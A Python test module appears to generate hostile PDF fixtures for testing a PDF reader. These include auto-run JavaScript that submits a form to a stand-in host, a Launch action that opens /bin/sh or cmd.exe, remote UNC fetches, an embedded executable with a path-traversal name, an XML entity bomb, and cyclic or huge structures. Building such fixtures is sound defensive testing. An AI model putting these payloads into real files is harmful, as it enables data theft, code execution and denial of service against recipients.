"""PDF files that want to run something, and forms, notes and outlines without end."""

from __future__ import annotations

from tests.hostile import WORDS, hostile
from tests.hostile.pdf.by_hand import SAY, one_page, stream


@hostile("javascript.pdf", "reads")
def javascript() -> bytes:
    """A script that is to run when the file is opened, and on each page."""
    action = "<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://192.0.2.1/')) >>"
    return one_page(
        page=f"/AA << /O {action} >>",
        catalogue=f"/OpenAction {action} /Names << /JavaScript << /Names [(x) {action}] >> >>",
    )


@hostile("launch.pdf", "reads")
def launch() -> bytes:
    """A program that is to start when the file is opened."""
    return one_page(catalogue="/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>")


@hostile("fetches.pdf", "reads")
def fetches() -> bytes:
    """Pages and pictures that are to be fetched from another computer."""
    link = "<< /S /URI /URI (http://192.0.2.1/) /Next << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\x) /D [0] >> >>"
    note = f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A {link} >>"
    picture = stream(
        b"",
        "/Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (http://192.0.2.1/i) >>",
    )
    return one_page(
        stream(SAY + b"\n/I Do"),
        page=f"/Annots [{note}]",
        resources="/XObject << /I 6 0 R >>",
        catalogue=f"/OpenAction {link}",
        more={6: picture},
    )


@hostile("embedded.pdf", "reads")
def embedded() -> bytes:
    """A program is packed inside."""
    file = "<< /Type /Filespec /F (../../run.exe) /UF (../../run.exe) /EF << /F 6 0 R >> >>"
    return one_page(
        catalogue=f"/Names << /EmbeddedFiles << /Names [(../../run.exe) {file}] >> >>",
        more={6: stream(b"MZ" + b"\0" * 999, "/Type /EmbeddedFile")},
    )


@hostile("xfa.pdf", "either")
def xfa() -> bytes:
    """A form of Adobe's with an XML bomb in it."""
    laughs = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(
        f"<!ENTITY b{n} '{f'&b{n - 1};' * 10}'>".encode() for n in range(1, 10)
    )
    return one_page(
        catalogue="/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true",
        more={6: stream(laughs + b"]><x>&b9;</x>")},
    )


def _form(count: int, *, kids: str = "", more: dict[int, bytes] | None = None) -> bytes:
    numbers = range(10, 10 + count)
    every = " ".join(f"{n} 0 R" for n in numbers)
    field = "<< /Type /Annot /Subtype /Widget /FT /Tx /T (f{0}) /V (Help as needed {0}) /Rect [{1} {2} {3} {4}] /P 3 0 R {5} >>"
    fields = {
        n: field.format(n, n % 500, n % 780, n % 500 + 99, n % 780 + 9, kids).encode()
        for n in numbers
    }
    return one_page(
        page=f"/Annots [{every}]",
        catalogue=f"/AcroForm << /Fields [{every}] >>",
        more={**fields, **(more or {})},
    )


@hostile("fields.pdf", "either", quick=False)
def fields() -> bytes:
    """A hundred thousand filled fields on one page."""
    return _form(100_000)


@hostile("field-loop.pdf", "either")
def field_loop() -> bytes:
    """Fields that are each other's parent and child."""
    return _form(3, kids="/Kids [10 0 R 11 0 R 12 0 R] /Parent 11 0 R")


@hostile("field-values.pdf", "either")
def field_values() -> bytes:
    """Fields whose values are lists, numbers, nothing, and a megabyte of text."""
    values = (
        "[[[(a)]]]",
        "99999999999999999999",
        "null",
        "/Name",
        "<FEFFD800>",
        f"({'a b ' * 250_000})",
        "<< /V 10 0 R >>",
    )
    numbers = range(10, 10 + len(values))
    every = " ".join(f"{n} 0 R" for n in numbers)
    field = (
        "<< /Subtype /Widget /FT /{} /T (f) /V {} /Opt [[{}]] /Rect [(a) 1 2] /Ff -1 /MK 7 /DA 5 >>"
    )
    kinds = ("Tx", "Btn", "Ch", "Sig", "Tx", "Tx", "Ch")
    return one_page(
        page=f"/Annots [{every}]",
        catalogue=f"/AcroForm << /Fields [{every}] >>",
        more={
            n: field.format(kind, value, value).encode()
            for n, kind, value in zip(numbers, kinds, values, strict=True)
        },
    )


@hostile("notes.pdf", "either", quick=False)
def notes() -> bytes:
    """A hundred thousand notes on one page."""
    note = f"<< /Type /Annot /Subtype /FreeText /Contents ({WORDS}) /Rect [1 1 99 99] >> "
    return one_page(page=f"/Annots [{note * 100_000}]")


@hostile("deep-outline.pdf", "reads")
def deep_outline() -> bytes:
    """An outline a hundred thousand levels deep that ends where it began."""
    last = 100_009
    items = {
        n: f"<< /Title (x) /Parent {n - 1} 0 R /First {n + 1 if n < last else 10} 0 R /Next {n} 0 R >>".encode()
        for n in range(10, last + 1)
    }
    return one_page(catalogue="/Outlines 10 0 R", more=items)
